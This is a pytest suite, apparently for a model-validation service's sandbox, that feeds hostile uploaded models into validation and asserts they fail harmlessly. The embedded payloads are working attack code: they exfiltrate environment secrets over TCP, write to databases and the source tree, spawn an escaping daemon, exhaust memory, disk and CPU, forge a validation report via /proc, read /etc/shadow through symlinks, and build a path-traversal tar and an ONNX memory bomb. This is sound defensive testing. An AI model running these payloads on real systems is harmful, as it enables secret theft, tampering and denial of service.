"""Each hostile model ends failed (or ready, having done nothing), with a clear reason, and the
registry, the blob store, the source tree, other versions and the audit log are as they were."""

from __future__ import annotations

import sqlite3
import time
import uuid
from pathlib import Path

import pytest
from django.conf import settings

from tests.conftest import ROOT
from tests.repository.validation.hostile.conftest import (
    Listener,
    Outside,
    Validator,
    findings,
    secret_values,
)

pytestmark = [pytest.mark.timeout(300)]

EXFILTRATE = """
def attack(p):
    import os, socket
    secrets = {k: os.environ.get(k, "") for k in ("SECRET_KEY", "DATABASE_URL", "REDIS_URL")}
    payload = repr(secrets).encode()
    out = {"seen": sorted(k for k, v in secrets.items() if v)}
    for port in (5432, 6379, 8080, p["port"]):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
                s.sendall(payload)
            out[str(port)] = "sent"
        except OSError as e:
            out[str(port)] = type(e).__name__
    try:
        socket.getaddrinfo("example.com", 80)
        out["dns"] = "resolved"
    except OSError as e:
        out["dns"] = type(e).__name__
    return out
"""


def test_secrets_are_not_in_the_environment_and_nothing_leaves_over_tcp(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside, listener: Listener
) -> None:
    body = validator.python_model("exfil", EXFILTRATE, port=listener.port)
    assert body["state"] == "failed"
    found = findings(body)
    assert found["seen"] == []
    # Its own network namespace has a loopback of its own, with nothing listening on it.
    for port in (5432, 6379, 8080, listener.port):
        assert found[str(port)] in ("ConnectionRefusedError", "OSError"), (port, found)
    assert found["dns"] != "resolved"
    time.sleep(0.5)
    assert listener.received == []
    assert not any(secret in str(body) for secret in secret_values())
    outside.assert_unchanged("exfil")


DATABASE = """
def attack(p):
    import sqlite3
    out = {}
    for path in p["sqlite"]:
        try:
            db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
            db.execute("CREATE TABLE owned (x)")
            db.commit()
            out[path] = "written"
        except Exception as e:
            out[path] = type(e).__name__
    try:
        import psycopg
        psycopg.connect("host=127.0.0.1 port=5432 user=postgres dbname=postgres", connect_timeout=2)
        out["postgres"] = "connected"
    except Exception as e:
        out["postgres"] = type(e).__name__
    return out
"""


def test_the_database_file_and_postgresql_are_out_of_reach(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    # The embedded default keeps its SQLite file in the var folder: a decoy stands there.
    decoy = Path(settings.VAR_DIR) / "portico.sqlite3"
    with sqlite3.connect(decoy) as db:
        db.execute("CREATE TABLE IF NOT EXISTS kept (x)")
    before = decoy.read_bytes()
    targets = [str(decoy), str(settings.DATABASES["default"]["NAME"])]
    body = validator.python_model("dbgrab", DATABASE, sqlite=targets)
    assert body["state"] == "failed"
    found = findings(body)
    assert "written" not in found.values() and found["postgres"] != "connected"
    assert decoy.read_bytes() == before
    outside.assert_unchanged("dbgrab")


WRITES = """
def attack(p):
    import os
    out = {}
    for path in p["paths"]:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write("owned")
            out[path] = "written"
        except OSError as e:
            out[path] = type(e).__name__
    return out
"""


def test_the_blob_store_source_tree_and_host_tmp_are_not_writable(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    token = uuid.uuid4().hex
    blob_dir = Path(settings.STORAGES["blobs"]["OPTIONS"]["location"])
    existing_blob = next(p for p in blob_dir.rglob("*") if p.is_file())
    paths = [
        str(existing_blob),
        str(blob_dir / f"owned-{token}"),
        str(ROOT / f"owned-{token}.py"),
        str(ROOT / "serving" / f"owned_{token}.py"),
        str(ROOT / "console" / "settings" / "base.py"),
        f"/tmp/owned-{token}",
        str(Path.home() / f"owned-{token}"),
    ]
    body = validator.python_model("writer", WRITES, paths=paths)
    assert body["state"] == "failed"
    found = findings(body)
    # Its /tmp is a private scratch folder (the test's blob store lives under the host's /tmp,
    # so those paths land there too); every other write is refused.
    assert found[f"/tmp/owned-{token}"] == "written"
    refused = {path: result for path, result in found.items() if not path.startswith("/tmp/")}
    assert "written" not in refused.values(), refused
    for path in paths:
        if "owned" in path:
            assert not Path(path).exists(), path
    outside.assert_unchanged("writer")


FORK = """
def attack(p):
    import os, subprocess, sys
    code = "import os, signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(600)"
    pid = os.fork()
    if pid == 0:
        os.setsid()
        subprocess.Popen([sys.executable, "-c", code, p["marker"]], start_new_session=True)
        os._exit(0)
    os.waitpid(pid, 0)
    return {"daemon": "started"}
"""


def test_a_forked_daemon_does_not_outlive_validation(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    marker = f"hostile-daemon-{uuid.uuid4().hex}"
    body = validator.python_model("forker", FORK, marker=marker)
    assert body["state"] == "failed"
    assert findings(body) == {"daemon": "started"}
    deadline = time.monotonic() + 10
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _processes_with(marker) == []
    outside.assert_unchanged("forker")


def _processes_with(marker: str) -> list[int]:
    pids = []
    for proc in Path("/proc").iterdir():
        try:
            if marker.encode() in (proc / "cmdline").read_bytes():
                pids.append(int(proc.name))
        except (OSError, ValueError):
            continue
    return pids


MEMORY = """
def attack(p):
    try:
        hog = bytearray(64 * 1024**3)
        return {"allocated": len(hog)}
    except MemoryError:
        return {"allocated": "MemoryError"}
"""


def test_allocating_far_past_the_memory_limit_fails(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    body = validator.python_model("hog", MEMORY)
    assert body["state"] == "failed"
    assert findings(body) == {"allocated": "MemoryError"}
    outside.assert_unchanged("hog")


DISK = """
def attack(p):
    import os, tempfile
    out = {}
    for where in (os.environ.get("HOME", "/tmp"), tempfile.gettempdir(), "/dev/shm"):
        written = 0
        try:
            for i in range(100000):
                with open(os.path.join(where, f"fill-{i}"), "wb") as f:
                    for _ in range(64):
                        f.write(b"x" * 1024 * 1024)
                        written += 1
        except OSError as e:
            out[where] = [type(e).__name__, e.errno, written]
    return out
"""


def test_filling_the_disk_stops_at_the_scratch_size(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    body = validator.python_model("filler", DISK)
    assert body["state"] == "failed"
    scratch_mib = settings.PORTICO_VALIDATION_SCRATCH_BYTES // 1024**2
    for where, (error, _, written_mib) in findings(body).items():
        assert error == "OSError", where
        assert written_mib <= scratch_mib, where  # bounded by the tmpfs, not the host's disk
    outside.assert_unchanged("filler")


SPIN = """
def attack(p):
    while True:
        pass
"""


def test_spinning_forever_is_stopped_by_the_cpu_limit(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    started = time.monotonic()
    body = validator.python_model("spinner", SPIN)
    assert body["state"] == "failed"
    assert time.monotonic() - started < settings.PORTICO_VALIDATION_TIME_LIMIT_S + 30
    assert body["validation"]["error"]
    outside.assert_unchanged("spinner")


FORGE = """
def attack(p):
    import json, os, signal
    forged = {
        "ok": True,
        "config_text": 'name: "someone-else"\\nplatform: "onnxruntime_onnx"\\n',
        "autocompleted_fields": [],
        "steps": [{"name": "load", "status": "passed", "message": "forged"}],
        "golden": [],
    }
    out = {}
    for path in ("/portico/input/report.json", "/portico/input/repo/report.json"):
        try:
            os.symlink("/dev/null", path)
            out[path] = "linked"
        except OSError as e:
            out[path] = type(e).__name__
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"--report" in argv:
            fd = argv[argv.index(b"--report") + 1].decode().rsplit("/", 1)[-1]
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                    f.write(json.dumps(forged))
                out["forged"] = "written"
                os.kill(int(pid), signal.SIGKILL)  # so that no real report follows it
            except OSError as e:
                out["forged"] = type(e).__name__
    return out
"""


def test_a_forged_report_is_never_stored(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    body = validator.python_model("forger", FORGE)
    assert body["state"] == "failed"
    found = findings(body)
    assert found["forged"] != "written"  # the check's pipe is out of the model's reach
    assert set(found.values()) - {found["forged"]} == {"OSError"}  # no report file to link
    assert "someone-else" not in (body["config"] or "")
    assert body["validation"]["error"]
    outside.assert_unchanged("forger")


SYMLINKS = """
def attack(p):
    import os
    out = {}
    home = os.environ.get("HOME", "/tmp")
    for i, target in enumerate(p["targets"]):
        link = os.path.join(home, f"link-{i}")
        try:
            os.symlink(target, link)
            with open(link, "rb") as f:
                out[target] = "read %d bytes" % len(f.read())
        except OSError as e:
            out[target] = type(e).__name__
    try:
        os.symlink("/", os.path.join(os.path.dirname(__file__), "escape"))
        out["model folder"] = "linked"
    except OSError as e:
        out["model folder"] = type(e).__name__
    return out
"""


def test_symlinks_out_of_its_folder_reach_nothing(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    blob_dir = Path(settings.STORAGES["blobs"]["OPTIONS"]["location"])
    targets = [
        str(ROOT / "console" / "settings" / "base.py"),
        str(next(p for p in blob_dir.rglob("*") if p.is_file())),
        str(Path(settings.VAR_DIR)),
        str(Path.home() / ".bashrc"),
        "/etc/shadow",
    ]
    body = validator.python_model("linker", SYMLINKS, targets=targets)
    assert body["state"] == "failed"
    found = findings(body)
    assert not any(str(v).startswith("read") for v in found.values()), found
    assert found["model folder"] == "OSError"  # its own folder is read-only
    outside.assert_unchanged("linker")


def test_an_archive_with_a_link_out_of_its_folder_is_refused(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    import io

    from tests.repository.archives import make_tar_gz

    archive = io.BytesIO(
        make_tar_gz({"1/model.onnx": b"w"}, symlinks={"1/secrets": "../../../../etc/passwd"})
    )
    archive.name = "linked.tar.gz"
    response = validator.client.post(
        "/api/models/linked/versions/", {"archive": archive}, format="multipart"
    )
    assert response.status_code >= 400 and "link" in response.json()["message"]
    outside.assert_unchanged("linked")


def test_an_onnx_file_huge_when_loaded_fails_within_the_limits(  # type: ignore[no-untyped-def]
    validator: Validator, outside: Outside
) -> None:
    body = validator.validated("bomb", {"1/model.onnx": _onnx_bomb()})
    assert body["state"] == "failed"
    assert body["validation"]["error"]
    outside.assert_unchanged("bomb")


def _onnx_bomb() -> bytes:
    """A few hundred bytes that ask for a 64 GiB tensor (ConstantOfShape) when run or folded."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    shape = numpy_helper.from_array(np.array([1 << 16, 1 << 16, 4], dtype=np.int64), "shape")
    value = helper.make_tensor("value", TensorProto.FLOAT, [1], [1.0])
    nodes = [
        helper.make_node("ConstantOfShape", ["shape"], ["big"], value=value),
        helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
        helper.make_node("Add", ["INPUT0", "total"], ["OUTPUT0"]),
    ]
    graph = helper.make_graph(
        nodes,
        "bomb",
        [helper.make_tensor_value_info("INPUT0", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("OUTPUT0", TensorProto.FLOAT, [4])],
        initializer=[shape],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    return bytes(model.SerializeToString())
